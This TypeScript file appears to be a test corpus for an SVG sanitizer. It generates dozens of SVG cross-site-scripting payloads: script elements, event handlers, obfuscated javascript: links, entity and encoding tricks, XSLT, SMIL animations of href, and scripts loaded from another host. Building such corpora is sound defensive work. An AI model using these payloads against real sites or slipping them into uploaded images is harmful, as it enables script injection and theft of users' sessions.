import { type Attack, dataUri, type Means, NAMES, SQUARE, svg, XHTML } from "./attack.ts";

/** SVGs that try to run a script. */
export function scriptAttacks({ script, elsewhere }: Means): Attack[] {
  return [...elements(script, elsewhere), ...handlers(script), ...links(script), ...animations(script)];
}

function elements(script: string, elsewhere: string): Attack[] {
  const scriptUri = dataUri("text/javascript", script);
  return [
    { title: "a script", svg: svg(`<script>${script}</script>`), does: "run" },
    { title: "a script in CDATA", svg: svg(`<script><![CDATA[${script}]]></script>`), does: "run" },
    { title: "a script of another file", svg: svg(`<script href="${elsewhere}/x.js"/>`), does: "request" },
    {
      title: "a script of another file by xlink",
      svg: svg(`<script xlink:href="${elsewhere}/x.js"/>`),
      does: "request",
    },
    { title: "a script of a data address", svg: svg(`<script href="${scriptUri}"/>`), does: "run" },
    {
      title: "a script with a prefix",
      svg: `<s:svg xmlns:s="http://www.w3.org/2000/svg" width="100" height="100"><s:script>${script}</s:script></s:svg>`,
      does: "run",
    },
    {
      title: "a script of XHTML",
      svg: svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${script}</h:script>`),
      does: "run",
    },
    {
      title: "a script of XHTML by a default namespace",
      svg: svg(`<g><script ${XHTML}>${script}</script></g>`),
      does: "run",
    },
    {
      title: "a script in elements that are not known",
      svg: svg(
        `<x:a xmlns:x="urn:x"><foo><script xmlns="http://www.w3.org/2000/svg">${script}</script></foo></x:a>`,
      ),
      does: "run",
    },
    {
      title: "a script in metadata",
      svg: svg(`<metadata><script>${script}</script></metadata>`),
      does: "run",
    },
    { title: "a script in a title", svg: svg(`<title><script>${script}</script></title>`), does: "run" },
    {
      title: "a script in a style sheet",
      svg: svg(`<style><script>${script}</script></style>`),
      does: "run",
    },
    {
      title: "a script in foreignObject",
      svg: svg(
        `<foreignObject width="100" height="100"><div ${XHTML}><script>${script}</script></div></foreignObject>`,
      ),
      does: "run",
    },
    {
      title: "a picture of HTML whose error is handled",
      svg: svg(
        `<foreignObject width="100" height="100"><img ${XHTML} src="x" onerror="${script}"/></foreignObject>`,
      ),
      does: "run",
    },
    {
      title: "a frame with a script address",
      svg: svg(
        `<foreignObject width="100" height="100"><iframe ${XHTML} src="javascript:parent.${script}"/></foreignObject>`,
      ),
      does: "run",
    },
    {
      title: "a frame of markup",
      svg: svg(
        `<foreignObject width="100" height="100"><iframe ${XHTML} srcdoc="&lt;script&gt;parent.${script}&lt;/script&gt;"/></foreignObject>`,
      ),
      does: "run",
    },
    { title: "an iframe of SVG", svg: svg(`<iframe ${XHTML} src="${elsewhere}/frame"/>`), does: "request" },
    { title: "an object", svg: svg(`<object ${XHTML} data="${elsewhere}/object"/>`) },
    { title: "an embed", svg: svg(`<embed ${XHTML} src="${elsewhere}/embed"/>`) },
    {
      title: "a handler element of SVG Tiny",
      svg: svg(
        `<handler type="application/ecmascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${script}</handler>`,
      ),
    },
    {
      title: "a listener element",
      svg: svg(`<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/>`),
    },
    {
      title: "a script of an entity",
      svg: svg("<script>&s;</script>", "", `<!DOCTYPE svg [<!ENTITY s "${script}">]>`),
      does: "run",
    },
    {
      title: "a script in UTF-16",
      svg: Buffer.from(`\ufeff${svg(`<script>${script}</script>`)}`, "utf16le"),
      does: "run",
    },
    {
      title: "a script in UTF-16 without a mark",
      svg: Buffer.from(svg(`<script>${script}</script>`), "utf16le").swap16(),
    },
    {
      title: "a script in an encoding of escapes",
      svg: Buffer.from(
        svg(`<script>${script}</script>`, "", '<?xml version="1.0" encoding="iso-2022-jp"?>'),
        "latin1",
      ),
      does: "run",
    },
    {
      title: "a transformation",
      svg: svg(
        SQUARE,
        "",
        `<?xml-stylesheet type="text/xsl" href="${dataUri("text/xml", `<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:template match="/"><script ${XHTML}>${script}</script></x:template></x:stylesheet>`)}"?>`,
      ),
      does: "run",
    },
  ];
}

function handlers(script: string): Attack[] {
  return [
    { title: "onload", svg: svg(SQUARE, `onload="${script}"`), does: "run" },
    { title: "onload by another case", svg: svg(SQUARE, `onLoad="${script}" ONLOAD="${script}"`) },
    { title: "onclick", svg: svg(`<g onclick="${script}">${SQUARE}</g>`), does: "run" },
    { title: "onmouseover", svg: svg(`<g onmouseover="${script}">${SQUARE}</g>`), does: "run" },
    {
      title: "onfocusin",
      svg: svg(`<g tabindex="0" autofocus="" onfocusin="${script}">${SQUARE}</g>`),
      does: "run",
    },
    { title: "onerror of an image", svg: svg(`<image href="missing" onerror="${script}"/>`), does: "run" },
    {
      title: "onbegin",
      svg: svg(`<rect><animate attributeName="x" dur="1s" onbegin="${script}"/></rect>`),
      does: "run",
    },
    { title: "onbegin of set", svg: svg(`<set attributeName="x" to="1" onbegin="${script}"/>`), does: "run" },
    {
      title: "a handler of a namespace",
      svg: svg(SQUARE, `xmlns:o="http://www.w3.org/2000/svg" o:onload="${script}"`),
    },
    {
      title: "a handler by a default of the DTD",
      svg: svg(SQUARE, "", `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${script}">]>`),
      does: "run",
    },
    {
      title: "a handler of an entity",
      svg: svg(SQUARE, 'onload="&s;"', `<!DOCTYPE svg [<!ENTITY s "${script}">]>`),
      does: "run",
    },
    {
      title: "markup by an entity",
      svg: svg(
        "&s;",
        "",
        `<!DOCTYPE svg [<!ENTITY s '<script>${script.replaceAll("'", "&#34;")}</script>'>]>`,
      ),
      does: "run",
    },
    {
      title: "markup by an entity of references",
      svg: svg("&s;", "", `<!DOCTYPE svg [<!ENTITY s "&#60;script&#62;${script}&#60;/script&#62;">]>`),
      does: "run",
    },
  ];
}

function links(script: string): Attack[] {
  const address = `javascript:${script}`;
  const link = (attributes: string): string => svg(`<a ${attributes}>${SQUARE}</a>`);
  return [
    { title: "a link to a script", svg: link(`href="${address}"`), does: "run" },
    { title: "a link to a script by xlink", svg: link(`xlink:href="${address}"`), does: "run" },
    {
      title: "a link by another prefix",
      svg: link(`xmlns:l="http://www.w3.org/1999/xlink" l:href="${address}"`),
      does: "run",
    },
    { title: "a link in capitals", svg: link(`href="JaVaScRiPt:${script}"`), does: "run" },
    { title: "a link with a line break in it", svg: link(`href="java&#10;script:${script}"`), does: "run" },
    { title: "a link with a tab in it", svg: link(`href="java&#x9;script&#x3a;${script}"`), does: "run" },
    { title: "a link after spaces", svg: link(`href="  &#x20;${address}"`), does: "run" },
    { title: "a link after a control character", svg: link(`href="&#x85;&#xa0;${address}"`) },
    {
      title: "a link of an entity",
      svg: svg(`<a href="&s;:${script}">${SQUARE}</a>`, "", '<!DOCTYPE svg [<!ENTITY s "java&#115;cript">]>'),
      does: "run",
    },
    {
      title: "a link to a data address",
      svg: link(`href="${dataUri("text/html", `<script>${script}</script>`)}"`),
    },
    { title: "a link to vbscript", svg: link(`href="vbscript:${script}"`) },
    {
      title: "a link of XHTML",
      svg: svg(
        `<foreignObject width="100" height="100"><a ${XHTML} href="${address}" style="display:block;height:100px">x</a></foreignObject>`,
      ),
      does: "run",
    },
    { title: "a base that is a script", svg: svg(`<a href="#x">${SQUARE}</a>`, `xml:base="${address}//"`) },
    { title: "an image that is a script", svg: svg(`<image width="9" height="9" href="${address}"/>`) },
    { title: "a use of a script", svg: svg(`<use href="${address}"/>`) },
    {
      title: "a use of a drawing in a data address",
      svg: svg(
        `<use href="${dataUri("image/svg+xml", `<svg ${NAMES} id="x"><script>${script}</script></svg>`)}#x"/>`,
      ),
    },
    {
      title: "an image that is a drawing with a script",
      svg: svg(
        `<image width="9" height="9" href="${dataUri("image/svg+xml", `<svg ${NAMES}><script>${script}</script></svg>`)}"/>`,
      ),
    },
    {
      title: "an image that is declared PNG and is a drawing",
      svg: svg(
        `<image width="9" height="9" href="${dataUri("image/png", `<svg ${NAMES}><script>${script}</script></svg>`)}"/>`,
      ),
    },
    {
      title: "a style sheet with a script in it",
      svg: svg(
        `<style>rect{behavior:url(#x);-moz-binding:url("${dataUri("text/xml", "<bindings/>")}#x");width:expression(${script.replaceAll("&", "")})}</style>${SQUARE}`,
      ),
    },
  ];
}

function animations(script: string): Attack[] {
  const address = `javascript:${script}`;
  const animated = (animation: string, attributes = ""): string =>
    svg(`<a ${attributes}>${animation}${SQUARE}</a>`);
  return [
    { title: "set of href", svg: animated(`<set attributeName="href" to="${address}"/>`), does: "run" },
    {
      title: "set of xlink:href",
      svg: animated(`<set attributeName="xlink:href" to="${address}"/>`, 'xlink:href="#x"'),
      does: "run",
    },
    {
      title: "set of href by another prefix",
      svg: animated(
        `<set attributeName="l:href" to="${address}"/>`,
        'xmlns:l="http://www.w3.org/1999/xlink" l:href="#x"',
      ),
    },
    {
      title: "animate of href by values",
      svg: animated(`<animate attributeName="href" values="${address};x" dur="9s"/>`),
    },
    {
      title: "animate of href with spaces",
      svg: animated(`<animate attributeName=" href " from="${address}" to="x" begin="0s" dur="9s"/>`),
    },
    {
      title: "animate of href by an entity",
      svg: svg(
        `<a><set attributeName="&h;" to="${address}"/>${SQUARE}</a>`,
        "",
        '<!DOCTYPE svg [<!ENTITY h "hr&#101;f">]>',
      ),
      does: "run",
    },
    {
      title: "set of href from outside",
      svg: svg(`<a id="a">${SQUARE}</a><set href="#a" attributeName="href" to="${address}"/>`),
      does: "run",
    },
    { title: "set of a handler", svg: svg(`<set attributeName="onclick" to="${script}"/>${SQUARE}`) },
    {
      title: "an animation of XHTML's namespace",
      svg: animated(`<set ${XHTML} attributeName="href" to="${address}"/>`),
    },
  ];
}
